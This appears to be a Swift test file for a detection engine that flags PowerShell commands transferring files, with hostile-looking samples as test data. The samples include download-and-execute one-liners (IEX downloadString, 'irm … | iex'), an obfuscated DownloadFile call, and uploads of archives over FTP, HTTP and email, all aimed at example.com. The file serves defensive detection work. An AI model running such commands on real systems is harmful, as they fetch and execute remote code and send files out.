import Detection
import Events
import Testing
import Watches

@Suite struct TransferScriptTests {
    static func script(_ form: ScriptActivity.Form, _ text: String, path: String = "") -> Event {
        var script = ScriptActivity(form, text: text)
        script.path = path
        return Event(time: .seconds(1_000), host: "PC1", activity: .script(script))
    }

    static let called: [(String, TransferDirection)] = [
        ("IEX(New-Object Net.WebClient).downloadString('https://example.com/a.png')", .download),
        (
            "CommandInvocation(Out-Default): \"Out-Default\"\r\nParameterBinding(Out-Default): name=\"InputObject\"; value=\"IEX(New-Object Net.WebClient).downloadString('https://example.com/a')\"",
            .download
        ),
        (
            "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://example.com/\"",
            .download
        ),
        ("iwr -Uri http://example.com/a -OutFile a.exe", .download),
        ("irm https://example.com/a | iex", .download),
        ("$r = wget http://example.com/a", .download),
        ("(New-Object Net.WebClient).Down`loadFile($u, $f)", .download),
        ("$c.\"DownloadData\"($u)", .download),
        ("Start-BitsTransfer -Source http://example.com/a -Destination b", .download),
        ("Start-BitsTransfer -Source b -Destination https://example.com/a -TransferType Upload", .upload),
        ("$c.UploadFile('ftp://example.com/a', 'C:\\a.zip')", .upload),
        ("Invoke-RestMethod -Uri $u -Method Post -InFile a.zip", .upload),
        ("irm $u -Method Put -Body ([IO.File]::ReadAllBytes('a.zip'))", .upload),
        ("Send-MailMessage -To a@b.example -Attachments a.zip", .upload),
        ("[Net.FtpWebRequest]$r = [Net.WebRequest]::Create($u)", .unknown),
        ("$x = New-Object -ComObject Msxml2.XMLHTTP", .download),
    ]

    @Test("a call that transfers is a finding, in a block and in an invocation", arguments: called)
    func finds(text: String, direction: TransferDirection) {
        for form in [ScriptActivity.Form.block, .invocation] {
            let verdict = transferVerdict(Self.script(form, text))
            #expect(verdict.transferDirection == direction)
            #expect(verdict.findings.count == 1)
            #expect(verdict.findings.allSatisfy { $0.level >= .medium })
            #expect(verdict.logs.contains(.transfer))
        }
    }

    @Test(
        "a name that is not called is none",
        arguments: [
            "Get-Help Invoke-WebRequest", "prompt", "Get-Alias iwr", "$curl = 'x'", "C:\\tools\\curl.exe -V",
            "# the wget of old", "Write-Output downloadfile", "irm $u -Method Post -Body $json",
            "Send-MailMessage -To a@b.example -Subject done", "Export-ModuleMember -Function Invoke-WebRequest",
        ])
    func silent(text: String) {
        #expect(transferVerdict(Self.script(.block, text)).logs.isEmpty)
    }

    @Test("the source of a module is low at most")
    func library() {
        let call = "(New-Object Net.WebClient).DownloadFile($u, $f)"
        let long = "function Get-It { \(call) }\n" + String(repeating: "# a line of a comment\n", count: 300)
        #expect(summary(transferVerdict(Self.script(.block, long))) == ["transfer.download low"])
        #expect(summary(transferVerdict(Self.script(.invocation, long))) == ["transfer.download medium"])
        let path = #"C:\Program Files\WindowsPowerShell\Modules\PackageManagement\1.0\p.psm1"#
        #expect(summary(transferVerdict(Self.script(.block, call, path: path))) == ["transfer.download low"])
        #expect(
            summary(transferVerdict(Self.script(.block, call, path: #"C:\Temp\p.ps1"#))) == ["transfer.download medium"]
        )
    }

    @Test("hostile text ends: quotes, words and switches without end")
    func hostile() {
        for text in [
            String(repeating: "`", count: 30_000), String(repeating: "iwr ", count: 10_000),
            String(repeating: "://", count: 10_000), String(repeating: "file://", count: 5_000),
            String(repeating: "a", count: 30_000) + "://",
        ] {
            _ = transferVerdict(Self.script(.block, text))
            _ = transferVerdict(transferStart(#"C:\Windows\System32\curl.exe"#, "curl " + text))
            _ = transferVerdict(transferStart(#"C:\Windows\System32\powershell.exe"#, "powershell -e " + text))
        }
    }
}
